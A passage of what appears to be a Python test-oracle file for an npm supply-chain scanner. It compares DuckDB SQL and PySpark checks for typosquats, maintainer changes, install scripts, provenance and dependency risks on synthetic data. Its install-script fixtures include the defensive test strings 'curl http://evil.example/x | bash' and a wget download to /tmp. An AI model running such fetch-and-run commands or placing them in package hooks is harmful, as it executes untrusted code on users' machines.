  WHEN contains(package, '/') AND regexp_extract(package, '[^/]*$') = top THEN 'scope-squatting of ''' || top || '''' END AS technique FROM pairs),
hits AS (SELECT *, row_number() OVER (PARTITION BY package ORDER BY pos) AS k FROM judged WHERE technique IS NOT NULL OR (distance BETWEEN 1 AND 2 AND distance / greatest(length(package), length(top)) < 0.4)),
near AS (SELECT package, top, technique, distance FROM hits WHERE k = 1)"""


@query("similar_names", f"WITH {_SIMILAR_SQL} SELECT p.package, p.version, top, technique, distance::INT AS distance FROM parts p JOIN near n ON n.package = p.package")
def _similar(spark, sf):
    return metadata.similar_names(_parts(spark, sf))


_META = {
    "description": "case when p_partkey % 4 = 0 then null when p_partkey % 4 = 1 then 'short' else p_name || ' described' end",
    "created_ts": "case p_partkey % 5 when 0 then '2026-01-20T10:00:00Z' when 1 then '2026-01-27T23:59:59Z' when 2 then 'unknown' when 3 then '2020-05-05T00:00:00.000Z' end",
    "weekly_downloads": "case when p_partkey % 3 = 0 then 0 when p_partkey % 3 = 1 then 50 else null end",
    "has_install_scripts": "p_partkey % 2 = 0",
    "has_repository": "p_partkey % 7 <> 0",
    "n_versions": "p_partkey % 3",
    "first_email": "case p_partkey % 3 when 0 then null when 1 then '' else 'a@b.example' end",
}
_FRAGMENT_SQL = " OR ".join(f"contains(lower(package), {q(x)})" for x in patterns.FRAGMENTS)


@query(
    "typosquat",
    f"""WITH {_SIMILAR_SQL}, meta AS (SELECT package, case when p_partkey % 6 = 0 then '1.0.0' else version end AS version, {", ".join(f"{e} AS {c}" for c, e in _META.items())} FROM parts),
    aged AS (SELECT *, trunc(epoch(TIMESTAMP '2026-02-01 00:00:00' - try_cast(left(created_ts, 19) AS TIMESTAMP)) / 86400) AS age, coalesce(weekly_downloads, 0) AS d FROM meta)
    SELECT package, version, 'Critical' AS severity, 'Likely malicious hallucinated package' AS title FROM aged WHERE age <= 30 AND d = 0 AND has_install_scripts
    UNION ALL SELECT package, version, 'High', 'Very new package with almost no downloads' FROM aged WHERE age < 7 AND d < 100
    UNION ALL SELECT * FROM (SELECT DISTINCT a.package, a.version, CASE WHEN technique IS NOT NULL THEN 'Critical' ELSE 'High' END, CASE WHEN technique IS NOT NULL THEN 'Typosquat of ''' || top || ''' detected' ELSE 'Name suspiciously similar to ''' || top || '''' END FROM aged a JOIN near n ON n.package = a.package)
    UNION ALL SELECT package, version, 'Medium', 'Missing or very short description' FROM aged WHERE octet_length(encode(coalesce(description, ''))) < 10
    UNION ALL SELECT package, version, 'Medium', 'No repository URL' FROM aged WHERE NOT has_repository
    UNION ALL SELECT package, version, 'Medium', 'Single version published at 0.0.1 or 1.0.0' FROM aged WHERE n_versions = 1 AND version IN ('0.0.1', '1.0.0')
    UNION ALL SELECT package, version, 'Medium', 'Maintainer has no published email' FROM aged WHERE coalesce(first_email, '') = ''
    UNION ALL SELECT package, version, 'Low', 'Name matches common AI hallucination pattern' FROM aged WHERE {_FRAGMENT_SQL}""",
)
def _typosquat(spark, sf):
    p = _parts(spark, sf).withColumns({c: F.expr(e) for c, e in _META.items()}).withColumn("version", F.expr("case when p_partkey % 6 = 0 then '1.0.0' else version end"))
    return metadata.typosquat(p, F.lit("2026-02-01 00:00:00").cast("timestamp")).select("package", "version", "severity", "title")


# Versions are orders of a customer; maintainers follow from the priority and the price.
_OWNER = "concat('m', substr(o_orderpriority, 1, 1))"
_MAIL = "case when o_orderkey % 5 = 0 then null else concat(" + _OWNER + ", '@', case when o_orderkey % 2 = 0 then 'one.example' else 'Two.example' end) end"
_TS = {"duck": "strftime(o_orderdate, '%Y-%m-%dT%H:%M:%SZ')", "spark": "date_format(o_orderdate, \"yyyy-MM-dd'T'HH:mm:ss'Z'\")"}
_TWO_SQL = f"""vers AS (SELECT o_custkey AS package, cast(o_orderkey as string) AS version, {_TS["duck"]} AS ts, {_OWNER} AS name, {_MAIL} AS email, o_orderkey % 3 = 0 AS second FROM orders),
ranked AS (SELECT *, row_number() OVER (PARTITION BY package ORDER BY ts DESC, version DESC) AS k FROM vers),
two AS (SELECT a.package, a.version, a.ts, a.name AS n1, a.email AS e1, a.second AS s1, b.name AS n2, b.email AS e2, b.second AS s2, b.version AS old FROM ranked a LEFT JOIN ranked b ON b.package = a.package AND b.k = 2 WHERE a.k = 1)"""


def _history(spark, sf):
    people = "filter(array(named_struct('name', name, 'email', email), if(second, named_struct('name', 'zed', 'email', 'z@zed.example'), cast(null as struct<name: string, email: string>))), x -> x is not null)"
    o = read(spark, sf, "orders").select(F.col("o_custkey").alias("package"), F.expr("cast(o_orderkey as string)").alias("version"), F.expr(_TS["spark"]).alias("publish_ts"), F.expr(_OWNER).alias("name"), F.expr(_MAIL).alias("email"), F.expr("o_orderkey % 3 = 0").alias("second"))
    return o.select("package", "version", "publish_ts", F.expr(people).alias("maintainers"))


@query("last_two_versions", f"WITH {_TWO_SQL} SELECT package, version AS latest, old AS previous, ts AS latest_ts FROM two")
def _last_two(spark, sf):
    return metadata.last_two(_history(spark, sf)).select("package", F.col("last.version").alias("latest"), F.col("prev.version").alias("previous"), F.col("last.publish_ts").alias("latest_ts"))


@query(
    "maintainers",
    f"""WITH {_TWO_SQL}, k AS (SELECT *, list_distinct(CASE WHEN s1 THEN [n1, 'zed'] ELSE [n1] END) AS b, CASE WHEN old IS NULL THEN NULL ELSE list_distinct(CASE WHEN s2 THEN [n2, 'zed'] ELSE [n2] END) END AS a FROM two)
    SELECT package, version, 'Low' AS severity, 'Single maintainer (bus factor risk)' AS title FROM k WHERE NOT s1
    UNION ALL SELECT package, version, 'Critical', 'Complete ownership transfer' FROM k WHERE a IS NOT NULL AND NOT list_has_any(a, b)
    UNION ALL SELECT package, version, unnest(['High', 'Medium']), unnest(['New maintainer added recently', 'New maintainer added']) FROM k WHERE a IS NOT NULL AND NOT list_has_all(a, b)
    UNION ALL SELECT package, version, 'Medium', 'Maintainer email domain changed' FROM k WHERE a IS NOT NULL AND n1 = n2 AND lower(split_part(e1, '@', 2)) <> lower(split_part(e2, '@', 2))
    UNION ALL SELECT package, version, 'High', 'Maintainer with no email' FROM k WHERE e1 IS NULL""",
)
def _maintainers(spark, sf):
    h = _history(spark, sf)
    now = metadata.last_two(h).select("package", F.col("last.version").alias("version"), F.col("last.maintainers").alias("maintainers"))
    return metadata.maintainers(now, h).select("package", "version", "severity", "title")


_BODIES = ["curl http://evil.example/x | bash", "wget http://e.example/p -O /tmp/p", "node -e \"run()\"", "husky install", " Patch-Package ", "node-gyp rebuild", "node install.js", "node ./f1.js", "node scripts/none.cjs && echo", "echo ok", "", "eval $X"]
_HOOKS = ["preinstall", "postinstall", "preuninstall", "prepare", "install"]
_SAFE = ", ".join(map(q, patterns.SAFE_SCRIPTS))


@query(
    "install_scripts",
    f"""WITH {fx.FILES_SQL}, scripts AS (SELECT source AS package, '1.0.0' AS version, {fx.pick(_HOOKS, "doc_id")} AS hook, {fx.pick(_BODIES, "(doc_id // 5)")} AS body FROM documents),
    used AS (SELECT * FROM scripts WHERE hook IN ('preinstall', 'postinstall', 'preuninstall') AND lower(trim(body)) NOT IN ({_SAFE})),
    target AS (SELECT *, regexp_extract(body, {q(patterns.SCRIPT_FILE)}, 1) AS t FROM used)
    SELECT package, version, CASE WHEN regexp_matches(body, {q(patterns.DANGEROUS_SCRIPT)}) THEN 'Critical' ELSE 'Medium' END AS severity, CASE WHEN regexp_matches(body, {q(patterns.DANGEROUS_SCRIPT)}) THEN 'Dangerous command in "' || hook || '" script' ELSE 'Install lifecycle script "' || hook || '" present' END AS title, {fx.cut_sql("body", 100)} AS snippet FROM used
    UNION ALL SELECT package, version, 'Medium', '"' || hook || '" script references missing file: ' || t, {fx.cut_sql("body", 100)} FROM target WHERE t <> '' AND NOT EXISTS (SELECT 1 FROM files f WHERE f.package = target.package AND (f.path = t OR ends_with(f.path, '/' || t)))""",
)
def _install(spark, sf):
    scripts = read(spark, sf, "documents").select(F.col("source").alias("package"), F.lit("1.0.0").alias("version"), F.expr(fx.pick(_HOOKS, "doc_id")).alias("hook"), F.expr(fx.spark_sql(fx.pick(_BODIES, "(doc_id // 5)"))).alias("body"))
    return metadata.install_scripts(scripts, fx.files(spark, sf)).select("package", "version", "severity", "title", "snippet")


_SCORES = ["9.8", "7.0", "4.0", "3.9", "NaN", "CVSS:3.1/AV:N", "CRITICAL", "high", "moderate", "none"]
_SCORE = fx.pick(_SCORES, "p_partkey")
_TYPE = "case when p_partkey % 20 >= 10 then 'HIGH_V3' else 'CVSS_V3' end"
_SEVERITY_SQL = "CASE WHEN n IS NOT NULL THEN (CASE WHEN isnan(n) THEN 'Low' WHEN n >= 9 THEN 'Critical' WHEN n >= 7 THEN 'High' WHEN n >= 4 THEN 'Medium' ELSE 'Low' END) WHEN contains(upper(s), 'CRITICAL') THEN 'Critical' WHEN contains(upper(s), 'HIGH') THEN 'High' WHEN contains(upper(s), 'MODERATE') OR contains(upper(s), 'MEDIUM') THEN 'Medium' WHEN contains(t, 'HIGH') THEN 'High' ELSE 'Medium' END"


@query(
    "advisories",
    f"""WITH a AS (SELECT p_partkey, {_SCORE} AS s, {_TYPE} AS t, try_cast({_SCORE} AS DOUBLE) AS n, p_name || ' is vulnerable' AS summary, {_PKG} AS package FROM part WHERE p_partkey % 3 = 0)
    SELECT package, cast(p_partkey as string) AS version, {_SEVERITY_SQL} AS severity, 'ADV-' || cast(p_partkey as string) || ': ' || CASE WHEN octet_length(encode(summary)) <= 80 THEN summary ELSE left(summary, 80) || '...' END AS title FROM a""",
)
def _advisories(spark, sf):
    p = _parts(spark, sf)
    known = p.where("p_partkey % 3 = 0").select("package", "version", F.expr("concat('ADV-', cast(p_partkey as string))").alias("id"), F.expr("concat(p_name, ' is vulnerable')").alias("summary"), F.lit(None).cast("string").alias("details"), F.array(F.struct(F.expr(_TYPE).alias("kind"), F.expr(_SCORE).alias("score"))).alias("scores"))
    return metadata.advisories(p, known).select("package", "version", "severity", "title")


_REPOS = ["git+https://github.com/own/src-repo.git", "github:own/other", "https://gitlab.com/own/x", "git@github.com:own/ssh.git", "own/bare", "https://github.com/own/../x", "git://github.com/own/tree/main/"]
_SRC = "cast(substr(source, 4) as int)"
_REPO_OF = fx.pick(["own/src-repo", "own/other", "", "own/ssh", "own/bare", "", "own/tree"], _SRC)
_LOWER_OK = r"NOT regexp_matches(lower(path), '^(dist|build|lib|out|cjs|esm|umd|es|module|_cjs|_esm)/') AND NOT regexp_matches(lower(path), '\.(min|bundle)\.js$') AND regexp_matches(path, '\.(js|mjs|cjs|ts)$')"


@query(
    "provenance",
    f"""WITH {fx.FILES_SQL}, pk AS (SELECT DISTINCT source AS package, '1.0.0' AS version, {_REPO_OF} AS repo, {_SRC} % 2 = 0 AS attested, {_SRC} % 4 AS mode FROM documents),
    tree AS (SELECT DISTINCT {_REPO_OF} AS repo, f.path FROM files f JOIN documents d ON d.doc_id = f.doc_id WHERE f.doc_id % 10 <> 0),
    alien AS (SELECT f.package, f.path FROM files f JOIN pk ON pk.package = f.package AND pk.repo NOT IN ('', 'own/other') WHERE {_LOWER_OK} AND NOT EXISTS (SELECT 1 FROM tree t WHERE t.repo = pk.repo AND t.path = f.path)),
    per AS (SELECT package, count(DISTINCT path) AS n, min(path) AS first FROM alien GROUP BY package)
    SELECT package, CASE WHEN attested THEN 'Info' ELSE 'Low' END AS severity, CASE WHEN attested THEN 'npm provenance attestation present' ELSE 'No npm provenance attestation' END AS title, NULL AS file FROM pk
    UNION ALL SELECT package, 'High', 'No provenance attestation and no repository URL', NULL FROM pk WHERE repo = '' AND NOT attested
    UNION ALL SELECT package, 'Medium', 'Repository URL not accessible', NULL FROM pk WHERE repo = 'own/other'
    UNION ALL SELECT package, 'Critical', cast(n as string) || ' JS file(s) in npm tarball not found in GitHub source', first FROM per
    UNION ALL SELECT package, 'Info', 'GitHub tree response was truncated', NULL FROM pk WHERE repo = 'own/ssh'""",
)
def _provenance(spark, sf):
    files = fx.files(spark, sf)
    src = "cast(substr(package, 4) as int)"
    pk = files.select("package", "version").distinct().select("package", "version", F.expr(fx.pick(_REPOS, src)).alias("repository"), F.expr(f"{src} % 2 = 0").alias("attested"))
    repo = F.expr(fx.pick(["own/src-repo", "own/other", "", "own/ssh", "own/bare", "", "own/tree"], src))
    tree = files.where("doc_id % 10 <> 0").select(repo.alias("repo"), "path").where("repo not in ('', 'own/other')").select("repo", F.when(F.col("repo") == "own/bare", "1.0.0").when(F.col("repo") == "own/tree", "HEAD").otherwise("v1.0.0").alias("ref"), "path", F.lit("blob").alias("type"), (F.col("repo") == "own/ssh").alias("truncated")).distinct()
    return metadata.provenance(pk, files, tree).select("package", "severity", "title", "file")


@query(
    "provenance_listing",
    """WITH alien AS (SELECT o_custkey % 20 AS k, 'lib/f' || o_orderkey || '.js' AS path FROM orders WHERE o_orderkey % 3 <> 0),
    placed AS (SELECT *, row_number() OVER (PARTITION BY k ORDER BY path) AS r, count(*) OVER (PARTITION BY k) AS n FROM alien)
    SELECT 'p' || k AS package, min(path) AS file, string_agg('  - ' || path, chr(10) ORDER BY path) || CASE WHEN max(n) > 20 THEN chr(10) || '  ... and ' || (max(n) - 20) || ' more' ELSE '' END AS description FROM placed WHERE r <= 20 GROUP BY k""",
)
def _provenance_listing(spark, sf):
    o = read(spark, sf, "orders").select(F.concat(F.lit("p"), (F.col("o_custkey") % 20).cast("string")).alias("package"), F.lit("1.0.0").alias("version"), F.concat(F.lit("lib/f"), F.col("o_orderkey").cast("string"), F.lit(".js")).alias("path"), (F.col("o_orderkey") % 3 == 0).alias("known"))
    # A directory of built files is expected to be missing; these aren't below one.
    files = o.withColumn("path", F.concat(F.lit("src/"), "path"))
    packages = files.select("package", "version").distinct().select("*", F.concat(F.lit("https://github.com/own/"), "package").alias("repository"), F.lit(False).alias("attested"))
    anchor = packages.select(F.concat(F.lit("own/"), "package").alias("repo"), F.lit("README.md").alias("path"))
    tree = files.where("known").select(F.concat(F.lit("own/"), "package").alias("repo"), "path").unionByName(anchor).withColumns({"ref": F.lit("v1.0.0"), "type": F.lit("blob"), "truncated": F.lit(False)})
    found = metadata.provenance(packages, files, tree).where("severity = 'Critical'")
    short = lambda c: F.replace(c, F.lit("src/lib/"), F.lit("lib/"))
    return found.select("package", short(F.col("file")).alias("file"), short(F.col("description")).alias("description"))


@query(
    "binary_entropy",
    """SELECT 'p' || p_partkey AS package, 'High' AS severity, 'High-entropy binary: lib/b.node' AS title FROM part WHERE p_partkey % 2 = 1
    UNION ALL SELECT 'p' || p_partkey, 'High', 'Native binary file: lib/b.node' FROM part""",
)
def _binary_entropy(spark, sf):
    """Every second part's binary is a row of digests, which no byte is frequent in; the others' are text."""
    digests = F.array_join(F.transform(F.sequence(F.lit(1), F.lit(128)), lambda i: F.sha2(F.concat(F.col("p_partkey").cast("string"), F.lit(" "), i.cast("string")), 256)), "")
    data = F.when(F.col("p_partkey") % 2 == 1, F.unhex(digests)).otherwise(F.repeat(F.lit("\x01\x02 "), 2000).cast("binary"))
    # A part is a few bytes of its file and its binary thousands, so a file's one or two tasks are dealt out before.
    keys = read(spark, sf, "part").select("p_partkey").repartition(4 * spark.sparkContext.defaultParallelism, "p_partkey")
    b = keys.select(F.concat(F.lit("p"), F.col("p_partkey").cast("string")).alias("package"), F.lit("1.0.0").alias("version"), F.lit("lib/b.node").alias("path"), data.alias("data"))
    return binary.scan(b).select("package", "severity", "title").where("title not like '%string in binary%' and title not like 'Shell%' and title not like 'URL%'")


# --- two versions --------------------------------------------------------------------------------

_OLD_SQL = f"old AS (SELECT package, path, CASE WHEN doc_id % 7 = 1 THEN replace(content, 'eval', 'evil') ELSE content END AS content FROM files WHERE doc_id % 5 <> 0), new AS (SELECT package, path, content FROM files WHERE doc_id % 11 <> 0)"


def _sides(spark, sf):
    f = fx.files(spark, sf)
    old = f.where("doc_id % 5 <> 0").withColumn("content", F.expr("case when doc_id % 7 = 1 then replace(content, 'eval', 'evil') else content end"))
    return old, f.where("doc_id % 11 <> 0")


@query(
    "diff_files",
    f"""WITH {fx.FILES_SQL}, {_OLD_SQL} SELECT coalesce(o.package, n.package) AS package, coalesce(o.path, n.path) AS path, CASE WHEN o.path IS NULL THEN 'added' WHEN n.path IS NULL THEN 'removed' WHEN o.content <> n.content THEN 'modified' ELSE 'same' END AS change FROM old o FULL JOIN new n ON o.package = n.package AND o.path = n.path""",
)
def _diff_files(spark, sf):
    p = versions.paired(*_sides(spark, sf))
    return p.select("package", "path", F.when(F.col("old").isNull(), "added").when(F.col("new").isNull(), "removed").when(F.col("old") != F.col("new"), "modified").otherwise("same").alias("change"))


def _newly_sql() -> str:
    parts = [f"SELECT n.package, n.path, {q(s)} AS severity, {q(t)} AS title FROM new n LEFT JOIN old o ON o.package = n.package AND o.path = n.path WHERE regexp_matches(lower(n.path), '\\.(js|cjs|mjs|ts|tsx|jsx)$') AND regexp_matches(n.content, {q(p)}) AND NOT regexp_matches(coalesce(o.content, ''), {q(p)})" for s, _, p, t in patterns.NEWLY]
    return f"WITH {fx.FILES_SQL}, {_OLD_SQL} " + " UNION ALL ".join(parts)


@query("diff_patterns", _newly_sql())
def _newly(spark, sf):
    return versions.newly(versions.paired(*_sides(spark, sf))).select("package", "path", "severity", "title")


_SCORE_SQL = f"(len(list_filter(string_split(rtrim(content, chr(10)), chr(10)), lambda x: octet_length(encode(x)) > 500)) + len(regexp_extract_all(content, {q(patterns.ESCAPE_RUN)})))"


@query(
    "diff_totals",
    f"""WITH {fx.FILES_SQL}, {_OLD_SQL}, a AS (SELECT coalesce(o.package, n.package) AS package, coalesce(o.path, n.path) AS path, o.content AS oc, n.content AS nc FROM old o FULL JOIN new n ON o.package = n.package AND o.path = n.path),
    js AS (SELECT *, regexp_matches(lower(path), '\\.(js|cjs|mjs|ts|tsx|jsx)$') AS js FROM a)
    SELECT package, coalesce(sum(octet_length(encode(oc))), 0)::BIGINT AS old_size, coalesce(sum(octet_length(encode(nc))), 0)::BIGINT AS new_size, count(*) FILTER (oc IS NULL) AS added, count(*) FILTER (nc IS NULL) AS removed, count(*) FILTER (oc <> nc) AS modified,
    coalesce(sum(CASE WHEN js THEN {_SCORE_SQL.replace("content", "oc")} END), 0)::BIGINT AS old_score, coalesce(sum(CASE WHEN js THEN {_SCORE_SQL.replace("content", "nc")} END), 0)::BIGINT AS new_score FROM js GROUP BY package""",
)
def _totals(spark, sf):
    return versions.totals(versions.paired(*_sides(spark, sf)))


def _diff_sql() -> str:
    first = [f"SELECT n.package, n.path, {i} AS i, {q(s)} AS severity, {q(c)} AS category, {q(t)} AS title, (SELECT min(line) FROM lines l WHERE l.doc_id = n.doc_id AND regexp_matches(l.raw, {q(p)})) AS line, n.doc_id FROM newer n LEFT JOIN old o ON o.package = n.package AND o.path = n.path WHERE regexp_matches(lower(n.path), '\\.(js|cjs|mjs|ts|tsx|jsx)$') AND regexp_matches(n.content, {q(p)}) AND NOT regexp_matches(coalesce(o.content, ''), {q(p)})" for i, (s, c, p, t) in enumerate(patterns.NEWLY)]
    blank = "NULL::VARCHAR, NULL::INT, NULL::VARCHAR"
    return f"""WITH {fx.FILES_SQL}, {_OLD_SQL}, newer AS (SELECT package, path, content, doc_id FROM files WHERE doc_id % 11 <> 0), first AS ({" UNION ALL ".join(first)}), sums AS ({{totals}}),
    added AS (SELECT n.package, n.path FROM new n WHERE NOT EXISTS (SELECT 1 FROM old o WHERE o.package = n.package AND o.path = n.path))
    SELECT package, '1.0.1' AS version, 'Low' AS severity, 'Suspicious' AS category, 'New file added between versions' AS title, path AS file, NULL::INT AS line, NULL::VARCHAR AS snippet FROM added
    UNION ALL SELECT f.package, '1.0.1', severity, category, title, f.path, f.line::INT, {fx.cut_sql("l.raw", 120)} FROM first f LEFT JOIN lines l ON l.doc_id = f.doc_id AND l.line = f.line
    UNION ALL SELECT package, '1.0.1', 'Medium', 'Obfuscation', 'Significant increase in obfuscated/minified code', {blank} FROM sums WHERE new_score > old_score + 5
    UNION ALL SELECT package, '1.0.1', 'Medium', 'Suspicious', 'Significant decrease in package size', {blank} FROM sums WHERE old_size > 0 AND removed > 0 AND (old_size - new_size) / old_size * 100 > 30
    UNION ALL SELECT package, '1.0.1', 'Low', 'Suspicious', 'Patch version with many changes', {blank} FROM sums WHERE added + removed + modified > 10"""


# Totals are those of the query above; no file here has a suspicious or a binary's name, nor is a manifest.

@query("diff_findings", _diff_sql().replace("{totals}", ORACLES["diff_totals"].split(f"{_OLD_SQL}, ", 1)[1].join(["WITH ", ""])))
def _diff(spark, sf):
    old, new = _sides(spark, sf)
    v = new.select("package").distinct().withColumns({"old_version": F.lit("1.0.0"), "new_version": F.lit("1.0.1")})
    return shown(versions.diff(old, new, v))


# --- dependencies: part k depends on 2k + 1, 3k and k // 2, modulo the number of parts --------------

_N = "(SELECT count(*) FROM part)"
_EDGE_SQL = f"edges AS (SELECT DISTINCT p_partkey AS a, b FROM (SELECT p_partkey, unnest([(2 * p_partkey + 1) % {_N}, (3 * p_partkey) % {_N}, p_partkey // 2]) AS b FROM part))"


def _graph(spark, sf):
    p = read(spark, sf, "part")
    n = p.agg(F.count("*").alias("n"))
    keyed = p.join(n, F.lit(True)).select("p_partkey", F.explode(F.expr("array((2 * p_partkey + 1) % n, (3 * p_partkey) % n, p_partkey div 2)")).alias("b")).distinct()
    deps = keyed.select(F.expr("cast(p_partkey as string)").alias("package"), F.lit("1.0.0").alias("version"), F.expr("cast(b as string)").alias("dep"), F.lit("^1.0.0").alias("spec"))
    vers = p.select(F.expr("cast(p_partkey as string)").alias("package"), F.lit("1.0.0").alias("version"), F.lit(True).alias("latest"), F.expr("case when p_partkey % 13 = 0 then 'old' end").alias("deprecated"), F.expr("case when p_partkey % 17 = 0 then '2026-01-30' else '2020-01-01' end").alias("created_ts"), F.expr("p_partkey % 2 + 1").alias("n_versions"))
    roots = p.select(F.expr("cast(p_partkey as string)").alias("root"), F.lit("1.0.0").alias("spec"))
    return roots, deps, vers


_TREE_SQL = f"""{_EDGE_SQL}, d1 AS (SELECT a AS root, b AS node FROM edges), d2 AS (SELECT DISTINCT root, b AS node FROM d1 JOIN edges ON a = node), d3 AS (SELECT DISTINCT root, b AS node FROM d2 JOIN edges ON a = node),
    reached AS (SELECT root, node, min(depth) AS depth FROM (SELECT *, 1 AS depth FROM d1 UNION ALL SELECT *, 2 FROM d2 UNION ALL SELECT *, 3 FROM d3) GROUP BY root, node)"""


@query("dependency_tree", f"WITH {_TREE_SQL} SELECT cast(p_partkey as string) AS root, cast(p_partkey as string) AS name, 0 AS depth FROM part UNION ALL SELECT cast(root as string), cast(node as string), depth::INT FROM reached")
def _tree(spark, sf):
    # The root's own specifier differs from the ranges that lead back to it, so it can come again.
    return versions.tree(*_graph(spark, sf)).select("root", "name", "depth")


@query(
    "dependency_risks",
    f"""WITH {_TREE_SQL}, known AS (SELECT cast(root as string) AS package, node FROM reached JOIN part ON p_partkey = node)
    SELECT package, 'High' AS severity, 'Transitive dependency has install scripts: ' || cast(node as string) || '@1.0.0' AS title FROM known WHERE node % 19 = 0
    UNION ALL SELECT package, 'Medium', 'Transitive dependency is deprecated: ' || cast(node as string) || '@1.0.0' FROM known WHERE node % 13 = 0
    UNION ALL SELECT package, 'High', 'Transitive dependency is very new: ' || cast(node as string) || '@1.0.0' FROM known WHERE node % 34 = 0""",
)
def _tree_risks(spark, sf):
    roots, deps, vers = _graph(spark, sf)
    scripts = vers.where("cast(package as int) % 19 = 0").select("package", "version", F.lit("postinstall").alias("hook"))
    return versions.deep_risks(roots, deps, vers, scripts, F.lit("2026-02-01").cast("timestamp")).select("package", "severity", "title")


# Wide trees: ten packages for each part, of six dependencies each, so that most trees pass the limit.
_WIDE_N = "((SELECT count(*) FROM part) * 10)"
_WIDE_SQL = f"""ids AS (SELECT p_partkey * 10 + i AS node FROM part, range(10) t(i)),
e AS (SELECT node, d, row_number() OVER (PARTITION BY node ORDER BY d::VARCHAR) AS nth FROM (SELECT DISTINCT node, (node * 7 + j * j * 31 + j * (node % 3)) % {_WIDE_N} AS d FROM ids, range(6) t(j))),
kids AS (SELECT node, count(*) AS kids FROM e GROUP BY node),
t0 AS (SELECT p_partkey * 10 AS root, p_partkey * 10 AS node, []::BIGINT[] AS place FROM part),
t1 AS (SELECT root, d AS node, min(list_append(place, nth)) AS place FROM t0 JOIN e USING (node) GROUP BY root, d),
t2 AS (SELECT root, d AS node, min(list_append(place, nth)) AS place FROM t1 JOIN e USING (node) WHERE NOT EXISTS (SELECT 1 FROM t1 x WHERE x.root = t1.root AND x.node = d) GROUP BY root, d),
t3 AS (SELECT root, d AS node, min(list_append(place, nth)) AS place FROM t2 JOIN e USING (node) WHERE NOT EXISTS (SELECT 1 FROM t1 x WHERE x.root = t2.root AND x.node = d) AND NOT EXISTS (SELECT 1 FROM t2 x WHERE x.root = t2.root AND x.node = d) GROUP BY root, d),
trees AS (SELECT *, row_number() OVER (PARTITION BY root ORDER BY depth, place) - 1 AS r FROM (SELECT *, 0 AS depth FROM t0 UNION ALL SELECT *, 1 FROM t1 UNION ALL SELECT *, 2 FROM t2 UNION ALL SELECT *, 3 FROM t3)),
counted AS (SELECT trees.*, CASE WHEN depth < 3 THEN coalesce(kids, 0) ELSE 0 END AS kids FROM trees LEFT JOIN kids USING (node) WHERE r <= 200),
pushed AS (SELECT root, max([depth + 1] || place || [kids]) FILTER (kids > 0) AS q FROM counted GROUP BY root),
stops AS (SELECT root, [depth] || place AS s FROM counted WHERE r = 200)"""


@query(
    "dependency_limits",
    f"""WITH {_WIDE_SQL}
    SELECT root::VARCHAR AS package, 'Medium' AS severity, 'Transitive dependency is deprecated: ' || node || '@1.0.0' AS title FROM counted JOIN ids USING (node) WHERE r > 0 AND node % 13 = 0
    UNION ALL SELECT root::VARCHAR, 'Low', 'Dependency tree scan limit reached' FROM pushed JOIN stops USING (root) WHERE q > s
    UNION ALL SELECT root::VARCHAR, 'Low', 'Large transitive dependency tree: ' || max(r) || ' packages' FROM counted GROUP BY root HAVING max(r) > 100""",
)
def _tree_limits(spark, sf):
    part = read(spark, sf, "part").select("p_partkey").repartition(4 * spark.sparkContext.defaultParallelism, "p_partkey")
    nodes = part.select(F.explode(F.transform(F.sequence(F.lit(0), F.lit(9)), lambda i: F.col("p_partkey") * 10 + i)).alias("node"))
    size = part.count() * 10
    target = lambda j: (F.col("node") * 7 + j * j * 31 + j * (F.col("node") % 3)) % size
    edges = nodes.select("node", F.explode(F.array(*(target(j) for j in range(6)))).alias("dep"))
    deps = edges.select(F.col("node").cast("string").alias("package"), F.lit("1.0.0").alias("version"), F.col("dep").cast("string").alias("dep"), F.lit("^1.0.0").alias("spec"))
    known = nodes.select(F.col("node").cast("string").alias("package"), F.lit("1.0.0").alias("version"), F.lit(True).alias("latest"), F.when(F.col("node") % 13 == 0, "old").alias("deprecated"), F.lit("2020-01-01").alias("created_ts"), F.lit(3).alias("n_versions"))
    roots = part.select((F.col("p_partkey") * 10).cast("string").alias("root"), F.lit("1.0.0").alias("spec"))
    hooks = known.where("false").select("package", "version", F.lit("install").alias("hook"))
    return versions.deep_risks(roots, deps, known, hooks, F.lit("2026-02-01").cast("timestamp")).select("package", "severity", "title")


# --- scalars -------------------------------------------------------------------------------------

_SPECS = ["axios", "axios@1.7.0", "@scope/pkg", "@scope/pkg@1.0.0", "left-pad@^1.3.0"]
_RANGES = ["^4.18.0", "~1.2.3", "*", ">=1.0.0 <2.0.0", "1.0.0", "", ">=2.0.0", "1.x || 2.x", "=3.1.4", "^^1.0.0"]
_VERSIONS = ["1.0.0", "1.0.1", "1.1.0", "2.0.0", "v1.2.3-beta.1", "1.0", "1.0.0+b", "abc"]
_SPEC, _RANGE, _V1, _V2 = fx.pick(_SPECS, "p_partkey"), fx.pick(_RANGES, "p_partkey"), fx.pick(_VERSIONS, "p_partkey"), fx.pick(_VERSIONS, "(p_partkey // 8)")


@query("package_specs", rf"SELECT p_partkey, regexp_extract(s, '^(@?[^@]*)', 1) AS name, nullif(regexp_extract(s, '^.[^@]*@(.*)$', 1), '') AS version FROM (SELECT p_partkey, {_SPEC} AS s FROM part)")
def _specs(spark, sf):
    p = read(spark, sf, "part").select("p_partkey", F.expr(_SPEC).alias("spec"))
    return p.select("p_partkey", names.spec_name(F.col("spec")).alias("name"), names.spec_version(F.col("spec")).alias("version"))


@query("version_ranges", rf"SELECT p_partkey, CASE WHEN v NOT IN ('', '*') AND NOT contains(v, '||') AND NOT contains(v, ' ') THEN v END AS cleaned FROM (SELECT p_partkey, regexp_replace(regexp_replace(regexp_replace(regexp_replace(trim({_RANGE}), '^\^+', ''), '^~+', ''), '^(>=)+', ''), '^=+', '') AS v FROM part)")
def _ranges(spark, sf):
    return read(spark, sf, "part").select("p_partkey", names.clean_version(F.expr(_RANGE)).alias("cleaned"))


def _semver_sql(v: str) -> str:
    s = f"string_split(regexp_replace({v}, '^v+', ''), '.')"
    return f"CASE WHEN len({s}) >= 3 AND try_cast(({s})[1] AS BIGINT) IS NOT NULL AND try_cast(({s})[2] AS BIGINT) IS NOT NULL AND try_cast(split_part(({s})[3], '-', 1) AS BIGINT) IS NOT NULL THEN [({s})[1]::BIGINT, ({s})[2]::BIGINT, split_part(({s})[3], '-', 1)::BIGINT] END"


@query("version_bumps", f"SELECT p_partkey, CASE WHEN a[1] <> b[1] THEN 'major' WHEN a[2] <> b[2] THEN 'minor' ELSE 'patch' END AS bump FROM (SELECT p_partkey, {_semver_sql(_V1)} AS a, {_semver_sql(_V2)} AS b FROM part)")
def _bumps(spark, sf):
    return read(spark, sf, "part").select("p_partkey", names.bump(F.expr(_V1), F.expr(fx.spark_sql(_V2))).alias("bump"))


